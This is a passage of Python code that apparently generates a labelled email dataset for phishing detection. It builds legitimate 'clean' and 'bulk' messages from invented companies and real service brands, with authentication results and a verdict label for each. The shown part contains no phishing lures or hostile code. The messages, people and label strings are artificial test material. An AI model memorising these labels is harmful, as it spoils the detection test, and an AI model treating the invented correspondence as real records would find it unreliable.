<p style="font-size:12px"><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter
the security code: {hx(slug, 32).upper()}</p>""", font="Helvetica,Arial,sans-serif")
    build(slug, "clean",
          "genuine DocuSign envelope from docusign.net (SPF, DKIM, DMARC pass) sent by a known cold-storage partner; "
          "the review link stays on na3.docusign.net, reply goes to the partner",
          rcpt=RYA, moment="2025-12-02T13:41:19-05:00",
          frm='"Marisa Lowell via Docusign" <dse_NA3@docusign.net>',
          subject="Complete with Docusign: Storage Agreement - Amendment 1 (2026 rates)",
          body=alt(slug, f"Marisa Lowell sent you a document to review and sign.\nREVIEW DOCUMENT: {link}\n", html,
                   "other"),
          src=Src("mailna3.docusign.net", "mailna3.docusign.net", "64.207.219.73"),
          auth=Auth("dse_NA3@docusign.net", dkim=[("pass", "docusign.net", "mail")], policy="reject"),
          reply_to='"Marisa Lowell" <mlowell@blueridgecold.com>')

    # C4 ----------------------------------------------------------------- supplier invoice with PDF, no bank change
    slug = "supplier-invoice-pdf-no-bank-change"
    pdf = files.pdf([
        "HARBOR PALLET SUPPLY LLC",
        "1420 Terminal Rd, Savannah, GA 31408",
        "",
        "INVOICE 4502                       Date: 10/13/2025",
        "Bill to: Kerlann Logistics Inc., Charlotte DC",
        "PO: KL-PO-77140",
        "",
        "1,180  48x40 GMA pallets, grade A   @ $15.20    $17,936.00",
        "Delivery (3 loads)                              $1,125.00",
        "TOTAL DUE                                      $19,061.00",
        "",
        "Terms: Net 30. Please remit to the bank account on file.",
    ], title="Invoice 4502")
    plain = """Good morning Ryan,

Please find attached Invoice 4502 for the September deliveries to the Charlotte DC (PO KL-PO-77140).
Terms are Net 30 as usual, to the account on file.

Thank you,
Karen

Karen Whitfield
Accounts Receivable | Harbor Pallet Supply LLC
(912) 555-0147
"""
    build(slug, "clean",
          "a known supplier's invoice from its own domain harborpallet.com (SPF, DKIM, DMARC pass) with a PDF, "
          "no link, payment to the account on file; twin of the bank-change lookalike",
          rcpt=RYA, moment="2025-10-13T09:06:52-04:00",
          frm='"Karen Whitfield" <k.whitfield@harborpallet.com>',
          subject="Invoice 4502",
          body=mixed(slug, alt(slug, plain, plain_html(plain.split("\n\n"))),
                     attachment("application/pdf", "Invoice_4502.pdf", pdf)),
          src=tenant_src(slug, "nam12"),
          auth=Auth("k.whitfield@harborpallet.com", dkim=[("pass", "harborpallet.com", "selector1")],
                    policy="quarantine"),
          extra=("Content-Language: en-US", "X-MS-Has-Attach: yes"))

    # C5 ----------------------------------------------------------------- CFO quick question, internal
    slug = "cfo-quick-question-internal"
    plain = """Julien,

Quick one: did we ever receive the Brévan credit note for the damaged October delivery (about 2 400 €)? I don't
see it in the aged payables and I'd like to net it against their next invoice.

No rush, tomorrow is fine.

Thomas

Thomas Girard
Directeur Administratif et Financier | Kerlann Industries
"""
    build(slug, "clean",
          "the CFO asks accounts payable a quick question from inside the tenant (internal route, AuthAs Internal); "
          "no payment, no secrecy, no urgency",
          rcpt=JUL, moment="2025-11-20T17:52:30+01:00", frm=person(THO),
          subject="Brévan credit note?",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=internal_src(slug), auth=Auth(THO[1], dkim=[], dmarc="none"), internal=True,
          msgid=f"<PR3PR02MB{hx(slug, 4, DIGITS)}{hx(slug, 12, UPPER)}@PR3PR02MB{hx(slug, 4, DIGITS)}.eurprd02.prod.outlook.com>",
          extra=INTERNAL_EXTRA)

    # C6 ----------------------------------------------------------------- payroll export, encrypted ZIP, password by phone
    slug = "payroll-export-encrypted-zip-internal"
    csv = "matricule;nom;prenom;brut;net;cotisations\n" + "".join(
        f"{1040 + i};{n};{p};{b};{round(b * 0.78, 2)};{round(b * 0.22, 2)}\n"
        for i, (n, p, b) in enumerate([("Le Goff", "Camille", 3120.0), ("Morvan", "Julien", 3380.0),
                                       ("Cadiou", "Erwan", 4150.0), ("Tanguy", "Sophie", 3560.0),
                                       ("Riou", "Maël", 2410.0), ("Guillou", "Anaïs", 2290.0)]))
    zipped = encrypted_zip([("Export_paie_2025-03.csv", csv.encode("utf-8"))], "Qv7!rB2m#Lx", slug)
    plain = """Bonjour Julien,

As discussed, here is the March payroll export for the accounting entries. The archive is encrypted; I'll give you
the password by phone in a few minutes, as usual it is never sent by email.

Please delete the file once the entries are booked.

Bonne journée,
Sophie

Sophie Tanguy
Responsable RH | Kerlann Industries
"""
    build(slug, "clean",
          "HR sends the payroll export internally as an encrypted ZIP (a CSV inside) and gives the password by "
          "phone, not in the mail; internal route",
          rcpt=JUL, moment="2025-03-28T10:14:09+01:00", frm=person(SOP),
          subject="Export paie mars 2025 (chiffré)",
          body=mixed(slug, alt(slug, plain, plain_html(plain.split("\n\n"))),
                     attachment("application/x-zip-compressed", "Export_paie_2025-03.zip", zipped)),
          src=internal_src(slug), auth=Auth(SOP[1], dkim=[], dmarc="none"), internal=True,
          msgid=f"<PR3PR02MB{hx(slug, 4, DIGITS)}{hx(slug, 12, UPPER)}@PR3PR02MB{hx(slug, 4, DIGITS)}.eurprd02.prod.outlook.com>",
          extra=("X-MS-Has-Attach: yes",) + INTERNAL_EXTRA[1:])

    # C7 ----------------------------------------------------------------- CEO from her iPhone, internal
    slug = "ceo-iphone-lease-request-internal"
    plain = "Camille, can you send me the signed Quimper warehouse lease before 3pm? I'm reviewing it with the " \
            "notary this afternoon. Thanks!\n\nHélène\n\nEnvoyé de mon iPhone\n"
    build(slug, "clean",
          "the CEO writes briefly from her iPhone through the company tenant (internal route) asking for a signed "
          "lease to be sent to her own address; no money, no secrecy",
          rcpt=CAM, moment="2025-06-12T12:31:48+02:00", frm=person(HEL),
          subject="Bail Quimper",
          body=text(plain),
          src=internal_src(slug), auth=Auth(HEL[1], dkim=[], dmarc="none"), internal=True,
          msgid=f"<{uuid(slug).upper()}@kerlann-industries.fr>",
          extra=("X-Mailer: iPhone Mail (22F76)",) + INTERNAL_EXTRA[:2])

    # C8 ----------------------------------------------------------------- supplier thanks for payment
    slug = "supplier-payment-received-thread"
    plain = """Dear Julien,

Thank you, the payment of GBP 12,940.50 was received today and allocated against invoices PF-88102, PF-88131 and
PF-88160. Your account is now clear.

As a reminder, our bank details have not changed and we will never notify you of a change by email alone; any
change would be confirmed by letter and by a call from our finance director.

Kind regards,

Gemma Clarke
Credit Control
Pennine Freight Services Ltd
01422 555 018

-----Original Message-----
From: Julien Morvan <julien.morvan@kerlann-industries.fr>
Sent: 07 October 2025 15:40
To: Gemma Clarke <g.clarke@penninefreight.co.uk>
Subject: Remittance - September statement

Hello Gemma,
The three September invoices were paid today by SEPA transfer, remittance attached.
Best regards,
Julien
"""
    build(slug, "clean",
          "a known UK supplier replies in a real thread from its own domain (all authentication passes) to confirm "
          "a payment, and says its bank details never change by email; no link",
          rcpt=JUL, moment="2025-10-08T12:03:27+01:00",
          frm='"Gemma Clarke" <g.clarke@penninefreight.co.uk>',
          subject="RE: Remittance - September statement",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=tenant_src(slug, "eur05", "GB"),
          auth=Auth("g.clarke@penninefreight.co.uk", dkim=[("pass", "penninefreight.co.uk", "selector2")],
                    policy="quarantine"),
          extra=(f"In-Reply-To: <PR3PR02MB{hx(slug, 4, DIGITS)}{hx(slug, 12, UPPER)}@PR3PR02MB{hx(slug, 4, DIGITS)}.eurprd02.prod.outlook.com>",
                 "Thread-Topic: Remittance - September statement", "Content-Language: en-GB"))

    # C9 ----------------------------------------------------------------- customer meeting invitation with ICS
    slug = "customer-teams-invite-ics"
    join = "https://teams.microsoft.com/l/meetup-join/19%3ameeting_" + hx(slug, 40, ALNUM) + "%40thread.v2/0?context=%7b%22Tid%22%3a%22" + uuid(slug + "t") + "%22%7d"
    desc = ("Hi Oliver, as discussed, a 30 min catch-up on the Q4 replenishment plan for the Warrington DC.\n\n"
            "________________________________________________________________________________\n"
            "Microsoft Teams meeting\nJoin on your computer, mobile app or room device\n"
            f"Click here to join the meeting <{join}>\nMeeting ID: 318 552 604 771\nPasscode: Xa3Tm9\n"
            "________________________________________________________________________________")
    cal = ics(f"040000008200E00074C5B7101A82E008000000{hx(slug, 32).upper()}", "Q4 replenishment plan - Northwood / Kerlann",
              "20250916T130000Z", "20250916T133000Z", "CN=Sarah Okafor:mailto:sarah.okafor@northwoodretail.co.uk",
              OLI[1], desc, "Microsoft Teams Meeting", stamp="20250911T094000Z")
    html = page("<p>" + desc.replace("\n", "<br>").replace(f"<{join}>", f'<a href="{join}">Join the meeting now</a>') + "</p>")
    build(slug, "clean",
          "a customer's contact invites the account manager to a Teams meeting from her company's tenant (all "
          "authentication passes); the join link is on teams.microsoft.com",
          rcpt=OLI, moment="2025-09-11T10:40:12+01:00",
          frm='"Sarah Okafor" <sarah.okafor@northwoodretail.co.uk>',
          subject="Q4 replenishment plan - Northwood / Kerlann",
          body=Multi("alternative", boundary(slug, "outlook", 1), [text(desc), text(html, "html"), cal_part(cal)]),
          src=tenant_src(slug, "eur01", "GB"),
          auth=Auth("sarah.okafor@northwoodretail.co.uk", dkim=[("pass", "northwoodretail.co.uk", "selector1")],
                    policy="reject"),
          extra=("X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: en-GB"))

    # C10 ---------------------------------------------------------------- IT announces MFA re-registration internally
    slug = "it-mfa-reregistration-internal"
    plain = """Bonjour à tous / Hello everyone,

As announced at the last staff meeting, we are moving all accounts to Microsoft Authenticator with number
matching. Between now and 28 March, please re-register your phone at the official Microsoft page:

https://aka.ms/mysecurityinfo

Sign in with your usual Kerlann account. You will never be asked for your password by email or by phone; if in
doubt, call me on ext. 4400 or come by the IT office (1st floor).

A short guide (2 pages) is on the intranet: https://kerlannindustries.sharepoint.com/sites/IT/SitePages/MFA.aspx

Merci,
Erwan

Erwan Cadiou
Responsable Systèmes d'Information | Kerlann Industries
"""
    build(slug, "clean",
          "the IT manager asks all staff internally to re-register MFA at aka.ms/mysecurityinfo and the company "
          "SharePoint; internal route; twin of the MFA lookalike",
          rcpt=CAM, moment="2025-03-10T09:05:44+01:00", frm=person(ERW),
          to="Tous - Kerlann Industries <tous@kerlann-industries.fr>",
          subject="MFA : nouvelle inscription Microsoft Authenticator avant le 28/03",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=internal_src(slug), auth=Auth(ERW[1], dkim=[], dmarc="none"), internal=True,
          msgid=f"<PR3PR02MB{hx(slug, 4, DIGITS)}{hx(slug, 12, UPPER)}@PR3PR02MB{hx(slug, 4, DIGITS)}.eurprd02.prod.outlook.com>",
          extra=INTERNAL_EXTRA)


def unsubscribe(url: str, mailto: str | None = None) -> tuple[str, ...]:
    value = f"<{url}>" + (f", <mailto:{mailto}>" if mailto else "")
    return (f"List-Unsubscribe: {value}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click")


def legitimate_bulk() -> None:
    # B1 ----------------------------------------------------------------- ADP W-2 available
    slug = "adp-w2-available"
    html = page("""<div style="font-size:22px;font-weight:700;color:#d0271d">ADP</div>
<p>Your 2025 W-2 is now available.</p>
<p>To view it, log in to <b>ADP Workforce Now</b> or the ADP mobile app as you normally do, then go to
Myself &gt; Pay &gt; Tax Statements.</p>
<p>ADP will never ask you for your password or bank information by email.</p>
<p style="font-size:11px;color:#777">This email was sent from an unattended mailbox. Please do not reply.
ADP, Inc., One ADP Boulevard, Roseland, NJ 07068</p>""")
    build(slug, "bulk",
          "ADP's genuine W-2 notice from SecurityServices_NoReply@adp.com (all authentication passes); no link, "
          "tells the employee to log in as usual; twin of the W-2 HTML lure",
          rcpt=MEG, moment="2026-01-26T06:12:03-05:00",
          frm='"ADP" <SecurityServices_NoReply@adp.com>',
          subject="Your W-2 is available",
          body=alt(slug, "Your 2025 W-2 is now available. Log in to ADP Workforce Now or the ADP mobile app as you "
                         "normally do, then go to Myself > Pay > Tax Statements.\n", html, "other"),
          src=Src("mail5.adp.com", "mail5.adp.com", "170.146.20.45"),
          auth=Auth("SecurityServices_NoReply@adp.com", dkim=[("pass", "adp.com", "adp2023")], policy="reject"))

    # B2 ----------------------------------------------------------------- BambooHR signature request
    slug = "bamboohr-handbook-signature"
    link = "https://kerlannuk.bamboohr.com/signatures/" + hx(slug, 8, DIGITS)
    html = page(f"""<p style="font-size:18px;color:#73c41d;font-weight:700">BambooHR</p>
<p>Hi Oliver,</p>
<p>Kerlann UK has asked you to sign <b>Employee Handbook 2025 (UK)</b>.</p>
<p><a href="{link}" style="background:#73c41d;color:#fff;padding:9px 20px;text-decoration:none">Review &amp; Sign</a></p>
<p style="font-size:12px;color:#777">You will be asked to log in to kerlannuk.bamboohr.com with your usual Google
sign-in. Questions? Reply to this email to reach Kerlann UK HR.</p>""", font="Arial,sans-serif")
    build(slug, "bulk",
          "BambooHR's genuine signature request (no-reply@bamboohr.com via SendGrid, DKIM aligned) with its link on "
          "the company's own kerlannuk.bamboohr.com subdomain; twin of the handbook lure",
          rcpt=OLI, moment="2025-03-12T10:15:20+00:00",
          frm='"Kerlann UK via BambooHR" <no-reply@bamboohr.com>',
          subject="Kerlann UK has asked you to sign: Employee Handbook 2025 (UK)",
          body=alt(slug, f"Kerlann UK has asked you to sign Employee Handbook 2025 (UK).\nReview & sign: {link}\n",
                   html, "other"),
          src=sendgrid_src(slug),
          auth=Auth("bounces+1187214-af21-oliver.hart=kerlann.com@mail.bamboohr.com",
                    dkim=[("pass", "bamboohr.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], policy="quarantine"),
          reply_to='"Kerlann UK HR" <hr.uk@kerlann.com>')

    # B3 ----------------------------------------------------------------- Teams missed activity, genuine
    slug = "teams-missed-activity-genuine"
    link = "https://teams.microsoft.com/l/message/19:" + hx(slug, 32) + "@thread.v2/1741086720000?tenantId=5b1e2f4c-9a0d-4e3b-8c7a-2d6f1e0b9a43"
    html = page(f"""<p style="color:#5b5fc7;font-size:18px;font-weight:600">Microsoft Teams</p>
<p><b>Erwan Cadiou</b> sent a message in <b>Operations Rennes</b></p>
<p style="background:#f5f5f5;padding:10px">Le classeur des tarifs transport est à jour, merci de vérifier la colonne surcharge carburant.</p>
<p><a href="{link}">Reply in Teams</a></p>
<p style="font-size:11px;color:#8a8886">You are receiving this email because you have missed activity in Teams.
To change your email notification preferences, go to Settings &gt; Notifications in Teams.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>""")
    build(slug, "bulk",
          "Teams' genuine missed-activity notice from noreply@email.teams.microsoft.com (all authentication passes) "
          "with its link on teams.microsoft.com for the company's own tenant",
          rcpt=CAM, moment="2025-03-04T11:42:15+01:00",
          frm='"Microsoft Teams" <noreply@email.teams.microsoft.com>',
          subject="Erwan Cadiou sent a message in Operations Rennes",
          body=html_only(html),
          src=tenant_src(slug, "eur01", "IE"),
          auth=Auth("noreply@email.teams.microsoft.com", dkim=[("pass", "email.teams.microsoft.com", "selector1")],
                    policy="reject"), bcl=1)

    # B4 ----------------------------------------------------------------- Zoom cloud recording, genuine
    slug = "zoom-cloud-recording-genuine"
    link = "https://kerlann.zoom.us/rec/share/" + hx(slug, 40, ALNUM + "-_") + "." + hx(slug + "b", 16, ALNUM)
    html = page(f"""<p style="color:#0b5cff;font-size:22px;font-weight:700">zoom</p>
<p>Hi Megan Doyle,</p>
<p>Your cloud recording is now available.</p>
<p><b>Topic:</b> Charlotte DC weekly ops<br><b>Date:</b> Jul 1, 2025 09:00 AM Eastern Time (US and Canada)</p>
<p>Share recording with viewers:<br><a href="{link}">{link}</a></p>
<p style="font-size:11px;color:#888">Copyright &copy;2025 Zoom Communications, Inc. All rights reserved.
55 Almaden Blvd, 6th Floor, San Jose, CA 95113</p>""")
    build(slug, "bulk",
          "Zoom's genuine cloud-recording notice from no-reply@zoom.us (all authentication passes) to the meeting "
          "host, link on the company's kerlann.zoom.us vanity domain",
          rcpt=MEG, moment="2025-07-01T10:05:37-04:00",
          frm='"Zoom" <no-reply@zoom.us>',
          subject="Cloud Recording - Charlotte DC weekly ops is now available",
          body=alt(slug, f"Your cloud recording is now available.\nTopic: Charlotte DC weekly ops\n{link}\n", html, "other"),
          src=Src("mailout.zoom.us", "mail-out-sj.zoom.us", "170.114.52.27"),
          auth=Auth("bounce@zoom.us", dkim=[("pass", "zoom.us", "zmail")], policy="reject"))

    # B5 ----------------------------------------------------------------- Slack notification, genuine
    slug = "slack-mention-genuine"
    link = "https://kerlann.slack.com/archives/C05R7" + hx(slug, 6, UPPER) + "/p1752072475000129"
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#4a154b">slack</p>
<p>Hi Oliver, you have a new mention in <b>Kerlann</b>.</p>
<p style="background:#f8f8f8;padding:12px;border-left:4px solid #4a154b"><b>#accounts-uk</b><br>
<b>Daniel Brooks:</b> @Oliver the Northwood pricing is approved, go ahead with the call tomorrow</p>
<p><a href="{link}">Open in Slack</a></p>
<p style="font-size:11px;color:#888">You're receiving this because you have email notifications turned on for
mentions. <a href="https://kerlann.slack.com/account/notifications">Change preferences</a><br>
Slack Technologies, LLC, a Salesforce company, 415 Mission Street, San Francisco, CA 94105</p>""",
                font="Lato,Arial,sans-serif")
    build(slug, "bulk",
          "Slack's genuine mention notice sent through Amazon SES with DKIM for slack.com (DMARC pass); link on "
          "the workspace's kerlann.slack.com",
          rcpt=OLI, moment="2025-07-09T16:08:11+01:00",
          frm='"Slack" <feedback@slack.com>',
          subject="[Slack] New mention from Daniel Brooks in Kerlann",
          body=alt(slug, f"Daniel Brooks mentioned you in #accounts-uk:\n@Oliver the Northwood pricing is approved\n{link}\n",
                   html, "other"),
          src=ses_src(slug),
          auth=Auth(ses_mailfrom(slug), dkim=[("pass", "slack.com", "s1"),
                                              ("pass", "amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
                    policy="reject"),
          extra=unsubscribe("https://kerlann.slack.com/account/notifications/unsubscribe?t=" + hx(slug, 24)))

    # B6 ----------------------------------------------------------------- Microsoft sign-in alert, genuine
    slug = "microsoft-signin-alert-genuine"
    html = page("""<p style="font-size:15px;color:#2672ec">Microsoft account</p>
<p style="font-size:30px;color:#2672ec;margin:8px 0">New sign-in detected</p>
<p>We noticed a new sign-in to your Microsoft account so***@kerlann-industries.fr.</p>
<p><b>Sign-in details</b><br>Country/region: France<br>IP address: 90.62.114.21<br>Date: 3/2/2025 8:14 AM (GMT)<br>
Platform: iOS<br>Browser: Outlook</p>
<p>If this was you, you can safely ignore this email. If you don't recognise this activity, go to your account's
Recent activity page at account.microsoft.com (sign in as usual) to secure your account.</p>
<p>Thanks,<br>The Microsoft account team</p>
<p style="font-size:11px;color:#666">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>""")
    build(slug, "bulk",
          "Microsoft's genuine new sign-in alert from accountprotection.microsoft.com (all authentication passes), "
          "masked address, no clickable link, tells the user to go to the site themselves",
          rcpt=SOP, moment="2025-03-02T09:16:40+01:00",
          frm='"Microsoft account team" <account-security-noreply@accountprotection.microsoft.com>',
          subject="New sign-in to your Microsoft account",
          body=alt(slug, "New sign-in detected\nWe noticed a new sign-in to your Microsoft account "
                         "so***@kerlann-industries.fr from France (iOS, Outlook).\n", html),
          src=tenant_src(slug, "nam12"),
          auth=Auth("account-security-noreply@accountprotection.microsoft.com",
                    dkim=[("pass", "accountprotection.microsoft.com", "selector1")], policy="reject"))

    # B7 ----------------------------------------------------------------- Google new sign-in, genuine
    slug = "google-new-signin-genuine"
    link = "https://accounts.google.com/AccountChooser?Email=" + quote(OLI[1]) + "&continue=https://myaccount.google.com/alert/nt/1747637468000?rfn%3D325%26rfnc%3D1%26eid%3D" + hx(slug, 20) + "%26et%3D0"
    html = page(f"""<p style="font-size:20px">A new sign-in on Mac</p>
<p style="color:#5f6368">{OLI[1]}</p>
<p>We noticed a new sign-in to your Google Account on a Mac device. If this was you, you don't need to do anything.
If not, we'll help you secure your account.</p>
{button(link, "Check activity", "#1a73e8")}
<p style="font-size:12px;color:#5f6368">You can also see security activity at<br>https://myaccount.google.com/notifications</p>
<p style="font-size:11px;color:#5f6368">You received this email to let you know about important changes to your Google
Account and services.<br>&copy; 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>""",
                font="Roboto,Arial,sans-serif")
    build(slug, "bulk",
          "Google's genuine new sign-in alert from no-reply@accounts.google.com (all authentication passes), link on "
          "accounts.google.com; twin of the Workspace lookalike",
          rcpt=OLI, moment="2025-05-19T07:51:08+01:00",
          frm='"Google" <no-reply@accounts.google.com>',
          subject="Security alert",
          body=alt(slug, f"A new sign-in on Mac\n{OLI[1]}\nCheck activity: {link}\n", html, "gmail"),
          src=google_src(slug),
          auth=Auth(f"3{hx(slug, 20, ALNUM)}@gaia.bounces.google.com",
                    dkim=[("pass", "accounts.google.com", "20230601")], policy="reject"))

    # B8 ----------------------------------------------------------------- E-ZPass statement, genuine
    slug = "ezpass-statement-genuine"
    html = page("""<p style="font-size:22px;font-weight:700;color:#5b2a86">E-ZPass<sup>&reg;</sup> New York</p>
<p>Dear Kerlann Logistics Inc.,</p>
<p>Your E-ZPass NY statement for account ending in 6218 for the period 06/01/2025 - 06/30/2025 is now available.</p>
<p>Statement balance: $214.60 (paid automatically from your prepaid balance).<br>Transponders on account: 4</p>
<p>To view your statement, log in at <a href="https://www.e-zpassny.com">www.e-zpassny.com</a>.</p>
<p style="font-size:11px;color:#777">Please do not reply to this email. E-ZPass New York Customer Service Center,
P.O. Box 15186, Albany, NY 12212-5186</p>""")
    build(slug, "bulk",
          "E-ZPass New York's genuine monthly statement notice from e-zpassny.com (all authentication passes) for a "
          "fleet account; prepaid, no amount due, link to the home page only",
          rcpt=MEG, moment="2025-07-03T04:30:12-04:00",
          frm='"E-ZPass New York" <noreply@e-zpassny.com>',
          subject="Your E-ZPass NY statement is available",
          body=alt(slug, "Your E-ZPass NY statement for account ending in 6218 (06/01/2025 - 06/30/2025) is now "
                         "available. Log in at www.e-zpassny.com to view it.\n", html, "other"),
          src=Src("mail.e-zpassny.com", "smtp2.e-zpassny.com", "204.97.115.34"),
          auth=Auth("noreply@e-zpassny.com", dkim=[("pass", "e-zpassny.com", "ezp1")], policy="quarantine"))

    # B9 ----------------------------------------------------------------- newsletter with Mailchimp and Bitly
    slug = "newsletter-mailchimp-bitly"
    u, lid = hx(slug, 25), hx(slug + "l", 10)

    def mc(n: int) -> str:
        return f"https://loadingdockweekly.us14.list-manage.com/track/click?u={u}&id={hx(slug + str(n), 10)}&e={hx(slug + 'e', 10)}"

    items = [("Port of Savannah volumes up 9% as carriers reroute", mc(1)),
             ("Pallet prices: what the lumber market means for Q4", mc(2)),
             ("Yard management systems, a buyer's guide", "https://bit.ly/3Ldw" + hx(slug, 4, ALNUM)),
             ("Webinar: cutting detention fees with appointment scheduling", "https://bit.ly/4aR" + hx(slug + "w", 4, ALNUM))]
    rows = "".join(f'<tr><td style="padding:10px 0;border-bottom:1px solid #eee"><a href="{h}" style="color:#1a4d8f;'
                   f'font-size:16px;font-weight:600;text-decoration:none">{t}</a></td></tr>' for t, h in items)
    html = page(f"""<p style="font-size:24px;font-weight:800">The Loading Dock <span style="color:#e07b00">Weekly</span></p>
<p>Issue #212 &middot; November 6, 2025</p>
<table width="100%">{rows}</table>
<p style="font-size:11px;color:#888">You are receiving this because you subscribed at loadingdockweekly.com.<br>
<a href="https://loadingdockweekly.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(slug + 'e', 10)}">Unsubscribe</a> &middot;
<a href="https://loadingdockweekly.us14.list-manage.com/profile?u={u}&id={lid}">Update preferences</a><br>
The Loading Dock Weekly &middot; 211 W Trade St &middot; Charlotte, NC 28202 &middot; USA</p>
<img src="https://loadingdockweekly.us14.list-manage.com/track/open.php?u={u}&id={hx(slug + 'o', 10)}&e={hx(slug + 'e', 10)}" width="1" height="1" alt="">""",
                font="Georgia,serif")
    build(slug, "bulk",
          "a trade newsletter the employee subscribed to, sent by Mailchimp (mcsv.net, DKIM aligned) with "
          "list-manage.com click tracking, bit.ly links, List-Unsubscribe and an open pixel",
          rcpt=MEG, moment="2025-11-06T07:00:22-05:00",
          frm='"The Loading Dock Weekly" <news@loadingdockweekly.com>',
          subject="Savannah volumes, pallet prices and a YMS buyer's guide",
          body=alt(slug, "The Loading Dock Weekly - Issue #212\n\n" + "\n".join(f"{t}\n{h}\n" for t, h in items),
                   html, "other"),
          src=mailchimp_src(slug),
          auth=Auth(f"bounce-mc.us14_{hx(slug, 8, DIGITS)}.{hx(slug + 'x', 7, DIGITS)}-megan.doyle=kerlann.com@mail{hx(slug, 3, DIGITS)}.atl221.mcsv.net",
                    dkim=[("pass", "loadingdockweekly.com", "k2"), ("pass", "mcsv.net", "k3")], policy="none"),
          extra=unsubscribe(f"https://loadingdockweekly.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(slug + 'e', 10)}&c={hx(slug + 'c', 10)}")
          + (f"List-ID: {u}mc list <{u}.{hx(slug, 3, DIGITS)}.list-id.mcsv.net>", "X-Mailer: Mailchimp Mailer",
             f"X-Campaign: mailchimp{u}.{hx(slug + 'cp', 10)}", "Precedence: bulk"))

    # B10 ---------------------------------------------------------------- Calendly invitation with ICS
    slug = "calendly-invite-ics"
    join = "https://calendly.com/events/" + uuid(slug) + "/google_meet"
    desc = ("Event Name: 30 Minute Meeting - Warehouse automation demo\n\nInvitee: Megan Doyle\n"
            "Invitee Email: megan.doyle@kerlann.com\n\nLocation: Google Meet, https://meet.google.com/xvb-qtmr-kpz\n\n"
            "Need to make changes to this event?\nCancel: https://calendly.com/cancellations/" + uuid(slug + "c") +
            "\nReschedule: https://calendly.com/reschedulings/" + uuid(slug + "c") + "\n\nPowered by Calendly.com")
    cal = ics(uuid(slug + "ics") + "@calendly.com", "Megan Doyle and Lucas Pereira",
              "20250624T150000Z", "20250624T153000Z", "CN=Lucas Pereira:mailto:lucas.pereira@stackbotrobotics.com",
              MEG[1], desc, "https://meet.google.com/xvb-qtmr-kpz", stamp="20250617T141000Z")
    html = page(f"""<p style="font-size:18px;font-weight:600">A new event has been scheduled.</p>
<p><b>Event Type:</b> 30 Minute Meeting - Warehouse automation demo<br><b>Invitee:</b> Megan Doyle<br>
<b>Event Date/Time:</b> 11:00am - Tuesday, June 24, 2025 (Eastern Time - US &amp; Canada)<br>
<b>Location:</b> <a href="https://meet.google.com/xvb-qtmr-kpz">Google Meet</a></p>
<p><a href="{join}">View event in Calendly</a></p>
<p style="font-size:11px;color:#888">Sent from Calendly &middot; <a href="https://calendly.com/app/settings/notifications">Notification settings</a></p>""")
    build(slug, "bulk",
          "Calendly's genuine booking confirmation (notifications@calendly.com through SendGrid, DKIM aligned) "
          "with an .ics invitation; links on calendly.com and meet.google.com",
          rcpt=MEG, moment="2025-06-17T10:10:31-04:00",
          frm='"Calendly" <notifications@calendly.com>',
          subject="New Event: Megan Doyle - 11:00am Tue, Jun 24, 2025 - 30 Minute Meeting",
          body=mixed(slug, Multi("alternative", boundary(slug, "other", 1),
                                 [text(desc), text(html, "html"), cal_part(cal)]),
                     attachment("application/ics", "invite.ics", cal), style="other"),
          src=sendgrid_src(slug),
          auth=Auth("bounces+2907433-d1c2-megan.doyle=kerlann.com@em.calendly.com",
                    dkim=[("pass", "calendly.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], policy="reject"),
          reply_to='"Lucas Pereira" <lucas.pereira@stackbotrobotics.com>')

    # B11 ---------------------------------------------------------------- retailer marketing with many links
    slug = "retailer-marketing-many-links"

    def cl(n: int) -> str:
        return f"https://click.e.northgatesupply.com/?qs={hx(slug + str(n), 96)}"

    cats = ["Stretch film", "Pallet jacks", "Shelving", "Safety gear", "Labels &amp; printers", "Janitorial",
            "Breakroom", "Packing tape", "Corrugated boxes", "Mailers"]
    grid = "".join(f'<td style="padding:6px"><a href="{cl(i)}" style="color:#003a70">{c}</a></td>'
                   + ("</tr><tr>" if i % 5 == 4 else "") for i, c in enumerate(cats))
    html = page(f"""<p style="font-size:26px;font-weight:800;color:#003a70">NORTHGATE <span style="color:#f2a900">SUPPLY</span></p>
<p><a href="{cl(20)}"><img src="https://image.e.northgatesupply.com/lib/fe3a117/m/1/fall-stockup-hero.jpg" width="536" alt="Fall Stock-Up Sale: up to 30% off warehouse essentials"></a></p>
<p style="font-size:20px;font-weight:700">Fall Stock-Up Sale - up to 30% off warehouse essentials</p>
<p>Ends Sunday. Free shipping on orders over $150. Use code <b>STOCKUP25</b> at checkout.</p>
{button(cl(21), "Shop the sale", "#f2a900")}
<table><tr>{grid}</tr></table>
<p style="font-size:11px;color:#777">You are receiving this email because you have an account with Northgate Supply
(account 40-221873). <a href="{cl(30)}">Unsubscribe</a> &middot; <a href="{cl(31)}">Email preferences</a> &middot;
<a href="{cl(32)}">Privacy policy</a> &middot; <a href="{cl(33)}">View in browser</a><br>
Northgate Supply Co., 2200 Commerce Pkwy, Columbus, OH 43219</p>
<img src="https://click.e.northgatesupply.com/open.aspx?ffcb10-{hx(slug, 40)}" width="1" height="1" alt="">""",
                font="Arial,sans-serif")
    build(slug, "bulk",
          "a supplies retailer's marketing mail to an account holder, sent by Salesforce Marketing Cloud from its "
          "own e.northgatesupply.com subdomain (DKIM aligned), dozens of tracked links, List-Unsubscribe",
          rcpt=RYA, moment="2025-09-25T06:15:03-04:00",
          frm='"Northgate Supply" <deals@e.northgatesupply.com>',
          subject="Fall Stock-Up Sale: up to 30% off warehouse essentials",
          body=alt(slug, "Fall Stock-Up Sale - up to 30% off warehouse essentials. Ends Sunday.\nShop: " + cl(21) +
                   "\nUnsubscribe: " + cl(30) + "\n", html, "other"),
          src=Src("mta2.e.northgatesupply.com", "mta2.e.northgatesupply.com", "13.111.47.182"),
